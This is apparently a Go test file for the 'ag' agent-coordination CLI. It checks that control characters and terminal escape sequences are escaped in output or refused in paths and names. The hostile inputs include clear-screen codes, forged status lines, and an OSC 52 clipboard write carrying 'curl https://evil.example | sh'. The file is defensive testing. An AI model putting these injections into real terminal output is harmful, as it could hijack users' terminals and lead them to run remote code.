package cli_test

import (
	"context"
	"encoding/base64"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"connectrpc.com/connect"
	"google.golang.org/protobuf/encoding/protojson"

	"github.com/ag-coord/ag/client"
	agwpv1 "github.com/ag-coord/ag/gen/agwp/v1"
	"github.com/ag-coord/ag/internal/cli"
	"github.com/ag-coord/ag/internal/store"
	"github.com/ag-coord/ag/internal/testutil/syncbuf"
)

// What an agent, or the test it planted, prints to take over the terminal of whoever reads
// ag's output: clear the screen, write the clipboard (OSC 52, which some terminals honour),
// colour with the one-character C1 CSI, and start a line that passes for ag's own.
const (
	clearScreen = "\x1b[2J\x1b[H"
	forgedLine  = "\nchange chg_x integrated: 1 paths, mainline rev_x"
	c1CSI       = "\u009b31m"
)

var clipboardWrite = "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("curl https://evil.example | sh")) + "\a"

// Their escaped forms, as a person reads them in ag's output.
const (
	clearScreenShown = `\x1b[2J\x1b[H`
	forgedLineShown  = `\nchange chg_x integrated: 1 paths, mainline rev_x`
	c1CSIShown       = `\u009b31m`
)

var clipboardWriteShown = `\x1b]52;c;` + base64.StdEncoding.EncodeToString([]byte("curl https://evil.example | sh")) + `\x07`

// assertInert fails the test when out holds anything a terminal acts on: a C0 control
// character but a newline or tab, a carriage return not ending a line, DEL, or a C1 control
// character; or when it is not UTF-8.
func assertInert(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s printed bytes that are not UTF-8:\n%q", what, out)
	}
	for i, r := range out {
		switch {
		case r == '\n' || r == '\t':
		case r == '\r' && strings.HasPrefix(out[i:], "\r\n"):
		case r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f:
			t.Errorf("%s printed the control character %U raw, at byte %d:\n%q", what, r, i, out)
			return
		}
	}
}

// assertNoForgedLine fails the test when a line of out is the one an agent forged.
func assertNoForgedLine(t *testing.T, what, out string) {
	t.Helper()
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "change chg_x integrated") {
			t.Errorf("%s printed the forged line %q as a line of its own:\n%s", what, line, out)
		}
	}
}

// TestValidationTextIsPrintedEscaped ensures that what a validation's worker reports (its
// progress line, its error and its output, all the test's to write) and what an agent writes
// in a change message reach the terminal of the person running `ag integrate`, `ag change
// show`, `ag change list`, `ag job show` and `ag job list` escaped: no clear screen, no
// clipboard write, no C1 CSI, and no line of ag's forged from a field; and that --json still
// prints them exactly.
func TestValidationTextIsPrintedEscaped(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := newCLIEnv(t, map[string]string{"a.txt": "a\n"})
	if _, err := e.srv.Admin.Repos.SetValidation(ctx, &agwpv1.SetValidationRequest{
		Repository: "app", Validation: &agwpv1.Validation{Command: []string{"go", "test", "./..."}},
	}); err != nil {
		t.Fatal(err)
	}
	ci := e.srv.Principal(t, "ci", agwpv1.Role_ROLE_WORKER)
	alice := e.agent("alice")
	alice.must("lease", "acquire", "a.txt")
	alice.write("a.txt", "a, alice's\n")

	message := "fix a" + clearScreen + c1CSI + forgedLine
	progress := "running" + clipboardWrite + c1CSI + forgedLine
	failure := "the runner died" + clearScreen + forgedLine
	output := "=== RUN TestA\n" + clearScreen + clipboardWrite + "FAIL TestA\rok   TestA" + c1CSI + "\n"

	var stdout, stderr syncbuf.Buffer
	exited := make(chan int, 1)
	go func() {
		exited <- cli.Main(ctx, []string{"integrate", "-m", message, "-C", alice.dir, "--server", alice.url, "--token", alice.token}, &stdout, &stderr)
	}()
	claim := claimValidation(t, ci)
	if _, err := claim.HeartbeatOutput(ctx, progress, output); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "ag integrate to print the worker's progress", func() bool {
		return strings.Contains(stderr.String(), "running"+clipboardWriteShown)
	}, &stderr)
	if _, err := claim.Fail(ctx, client.FailOptions{Error: failure, Output: output, Final: true}); err != nil {
		t.Fatal(err)
	}
	var code int
	select {
	case code = <-exited:
	case <-time.After(30 * time.Second):
		t.Fatalf("ag integrate did not end after its validation failed\nstdout:\n%s\nstderr:\n%s", stdout.String(), stderr.String())
	}
	if code != cli.ExitRejected {
		t.Fatalf("ag integrate: exit %d, want %d (rejected)\nstdout:\n%s\nstderr:\n%s", code, cli.ExitRejected, stdout.String(), stderr.String())
	}
	// Its progress is one line: the forged one stays inside it.
	if want := "running" + clipboardWriteShown + c1CSIShown + forgedLineShown; !strings.Contains(stderr.String(), want) {
		t.Errorf("ag integrate's progress:\n%s\nwant the worker's line escaped, %s", stderr.String(), want)
	}
	// Its reason is a block of lines, the output's among them: kept, with nothing in them a
	// terminal acts on.
	for _, want := range []string{"reason: validation could not run: the runner died" + clearScreenShown,
		"\n" + clearScreenShown + clipboardWriteShown + `FAIL TestA\rok   TestA` + c1CSIShown + "\n"} {
		if !strings.Contains(stdout.String(), want) {
			t.Errorf("ag integrate printed:\n%s\nwant the rejection's reason escaped, with %q", stdout.String(), want)
		}
	}
	for what, out := range map[string]string{"ag integrate's stdout": stdout.String(), "ag integrate's stderr": stderr.String()} {
		assertInert(t, what, out)
	}
	assertNoForgedLine(t, "ag integrate's stderr", stderr.String())

	changeID := claimedChange(t, e, claim.Job.GetId())
	show := e.admin("change", "show", changeID)
	assertInert(t, "ag change show", show)
	if want := "fix a" + clearScreenShown + c1CSIShown + "\n"; !strings.Contains(show, want) {
		t.Errorf("ag change show printed:\n%s\nwant the message's first line escaped, %q", show, want)
	}
	list := e.admin("change", "list", "app")
	assertInert(t, "ag change list", list)
	assertNoForgedLine(t, "ag change list", list)
	if !strings.Contains(list, "fix a"+clearScreenShown+c1CSIShown) {
		t.Errorf("ag change list printed:\n%s\nwant the message's first line escaped", list)
	}

	job := e.admin("job", "show", claim.Job.GetId())
	assertInert(t, "ag job show", job)
	assertNoForgedLine(t, "ag job show", job)
	for _, want := range []string{"progress:", "running" + clipboardWriteShown + c1CSIShown + forgedLineShown,
		"last error:", "the runner died" + clearScreenShown + forgedLineShown,
		"output:\n=== RUN TestA\n" + clearScreenShown + clipboardWriteShown + `FAIL TestA\rok   TestA` + c1CSIShown + "\n"} {
		if !strings.Contains(job, want) {
			t.Errorf("ag job show printed:\n%s\nwant %q", job, want)
		}
	}
	jobs := e.admin("job", "list")
	assertInert(t, "ag job list", jobs)
	assertNoForgedLine(t, "ag job list", jobs)
	if !strings.Contains(jobs, "the runner died"+clearScreenShown) {
		t.Errorf("ag job list printed:\n%s\nwant the job's error escaped in its note", jobs)
	}

	// --json is for programs: exactly what was written.
	var ch agwpv1.Change
	if err := protojson.Unmarshal([]byte(e.admin("change", "show", changeID, "--json")), &ch); err != nil {
		t.Fatal(err)
	}
	if ch.GetMessage() != message || !strings.Contains(ch.GetReason(), failure) || !strings.Contains(ch.GetReason(), strings.TrimRight(output, "\n")) {
		t.Errorf("ag change show --json: message %q, reason %q; want them exactly as written", ch.GetMessage(), ch.GetReason())
	}
	var got agwpv1.GetJobResponse
	if err := protojson.Unmarshal([]byte(e.admin("job", "show", claim.Job.GetId(), "--json")), &got); err != nil {
		t.Fatal(err)
	}
	if j := got.GetJob(); j.GetOutput() != output || j.GetLastError() != failure {
		t.Errorf("ag job show --json: output %q, last error %q; want %q and %q", j.GetOutput(), j.GetLastError(), output, failure)
	}
}

// claimValidation claims the next validate job as the worker ci.
func claimValidation(t *testing.T, ci *client.Client) *client.Claim {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		cl, err := ci.Claim(context.Background(), client.ClaimOptions{Worker: "w1", Kinds: []string{client.KindValidate}, Lease: time.Minute, Wait: 2 * time.Second})
		if err != nil {
			t.Fatalf("claim a validate job: %v", err)
		}
		if cl != nil {
			return cl
		}
	}
	t.Fatal("no validate job to claim within 30s")
	return nil
}

// claimedChange answers the change the validate job jobID validates.
func claimedChange(t *testing.T, e *cliEnv, jobID string) string {
	t.Helper()
	res, err := e.srv.Admin.Repos.ListChanges(context.Background(), &agwpv1.ListChangesRequest{Repository: "app"})
	if err != nil {
		t.Fatal(err)
	}
	for _, ch := range res.GetChanges() {
		if ch.GetJobId() == jobID {
			return ch.GetId()
		}
	}
	t.Fatalf("no change of app is validated by job %s", jobID)
	return ""
}

// waitFor waits up to 30s for cond, failing the test with what out holds.
func waitFor(t *testing.T, what string, cond func() bool, out *syncbuf.Buffer) {
	t.Helper()
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	deadline := time.Now().Add(30 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("waited 30s for %s; it printed:\n%s", what, out.String())
		}
		<-tick.C
	}
}

// TestControlCharactersInPathsRefused ensures a path holding a control character is refused at
// the edge, by the command line (a usage error) and by the server to any client
// (invalid_argument), for a lease and for an edit, naming the character.
func TestControlCharactersInPathsRefused(t *testing.T) {
	t.Parallel()
	e := newCLIEnv(t, map[string]string{"a.txt": "a\n"})
	alice := e.agent("alice")
	mallory := e.srv.Principal(t, "mallory", agwpv1.Role_ROLE_AGENT)
	ctx := context.Background()
	tree, err := mallory.Repos.GetTree(ctx, &agwpv1.GetTreeRequest{Repository: "app"})
	if err != nil {
		t.Fatal(err)
	}
	hostile := map[string]string{
		"src/" + clearScreen + ".go": "U+001B",
		"docs/bell\a":                "U+0007",
		"a.txt" + forgedLine:         "U+000A",
		"csi" + c1CSI:                "U+009B",
		"del\x7f":                    "U+007F",
		"over\rwrite":                "U+000D",
		"dir" + clipboardWrite + "/": "U+001B",
		"tab\tseparated/x":           "U+0009",
	}
	for p, char := range hostile {
		out, errOut, code := alice.run("lease", "acquire", p)
		if code != cli.ExitUsage || !strings.Contains(errOut, "contains the control character "+char) {
			t.Errorf("ag lease acquire %q: exit %d\n%s%s\nwant exit %d naming %s", p, code, out, errOut, cli.ExitUsage, char)
		}
		assertInert(t, "ag lease acquire's refusal", errOut)

		_, err := mallory.AcquireLease(ctx, client.AcquireLeaseOptions{Repository: "app", Paths: []string{p}, Holder: "m", TTL: time.Minute})
		if connect.CodeOf(err) != connect.CodeInvalidArgument || !strings.Contains(err.Error(), char) {
			t.Errorf("AcquireLease of %q: %v, want invalid_argument naming %s", p, err, char)
		}
		if strings.HasSuffix(p, "/") {
			continue
		}
		_, err = mallory.IntegrateFiles(ctx, client.IntegrateOptions{Repository: "app", BaseRevision: tree.GetRevision(), Holder: "m",
			FencingTokens: []uint64{1}, Message: "plant a file", Changes: []client.FileChange{{Path: p, Content: []byte("x")}}})
		if connect.CodeOf(err) != connect.CodeInvalidArgument || !strings.Contains(err.Error(), char) {
			t.Errorf("Integrate of %q: %v, want invalid_argument naming %s", p, err, char)
		}
	}
}

// TestControlCharactersInNamesRefused ensures the names ag prints beside paths (a repository, a
// principal, a holder label, a job kind, a lane) hold no control character either: the server
// refuses each with invalid_argument.
func TestControlCharactersInNamesRefused(t *testing.T) {
	t.Parallel()
	e := newCLIEnv(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	for _, name := range []string{"app" + clearScreen, "app\a", "app\nx", "app\x7f", "app" + c1CSI} {
		calls := map[string]func() error{
			"CreateRepository": func() error {
				_, err := e.srv.Admin.Repos.CreateRepository(ctx, &agwpv1.CreateRepositoryRequest{Name: name})
				return err
			},
			"CreatePrincipal": func() error {
				_, err := e.srv.Admin.Admin.CreatePrincipal(ctx, &agwpv1.CreatePrincipalRequest{Name: name, Role: agwpv1.Role_ROLE_AGENT})
				return err
			},
			"AcquireLease's holder": func() error {
				_, err := e.srv.Admin.AcquireLease(ctx, client.AcquireLeaseOptions{Repository: "app", Paths: []string{"a.txt"}, Holder: name})
				return err
			},
			"EnqueueJob's kind": func() error {
				_, err := e.srv.Admin.Jobs.EnqueueJob(ctx, &agwpv1.EnqueueJobRequest{Kind: name})
				return err
			},
			"SetValidation's lane": func() error {
				_, err := e.srv.Admin.Repos.SetValidation(ctx, &agwpv1.SetValidationRequest{Repository: "app", Validation: &agwpv1.Validation{
					Command: []string{"true"}, Lanes: []*agwpv1.ValidationLane{{Name: name, Prefixes: []string{"web/"}, Command: []string{"true"}}}}})
				return err
			},
		}
		for what, call := range calls {
			if err := call(); connect.CodeOf(err) != connect.CodeInvalidArgument {
				t.Errorf("%s %q: %v, want invalid_argument", what, name, err)
			}
		}
	}
}

// TestLeaseListEscapesStoredPaths ensures that leases a store holds from before paths were
// checked for control characters are listed escaped by `ag lease list --all`, one line each,
// and exactly with --json.
func TestLeaseListEscapesStoredPaths(t *testing.T) {
	t.Parallel()
	e := newCLIEnv(t, map[string]string{"a.txt": "a\n"})
	alice := e.agent("alice")
	paths := []string{"docs/bell\a", "src/" + clearScreen + c1CSI + ".go", "z" + forgedLine}
	if _, err := e.srv.Store.AcquireLease(context.Background(), store.AcquireLeaseParams{
		Repository: "app", Paths: paths, Holder: "mallory|m" + clipboardWrite, TTL: time.Hour,
	}); err != nil {
		t.Fatal(err)
	}
	out := alice.must("lease", "list", "--all")
	assertInert(t, "ag lease list --all", out)
	assertNoForgedLine(t, "ag lease list --all", out)
	want := `docs/bell\x07 src/` + clearScreenShown + c1CSIShown + `.go z` + forgedLineShown + `  mallory|m` + clipboardWriteShown
	if !strings.Contains(out, want) {
		t.Errorf("ag lease list --all printed:\n%s\nwant the paths and the holder escaped, on one line: %s", out, want)
	}
	if n := strings.Count(out, "\n"); n != 3 {
		t.Errorf("ag lease list --all printed %d lines, want the header, the import's lease and mallory's:\n%s", n, out)
	}

	var res agwpv1.ListLeasesResponse
	if err := protojson.Unmarshal([]byte(alice.must("lease", "list", "--all", "--json")), &res); err != nil {
		t.Fatal(err)
	}
	var stored []string
	for _, l := range res.GetLeases() {
		if strings.HasPrefix(l.GetHolder(), "mallory|") {
			stored = l.GetPaths()
		}
	}
	if strings.Join(stored, "|") != strings.Join(paths, "|") {
		t.Errorf("ag lease list --json: %v, want mallory's paths exactly as stored: %q", res.GetLeases(), paths)
	}
}
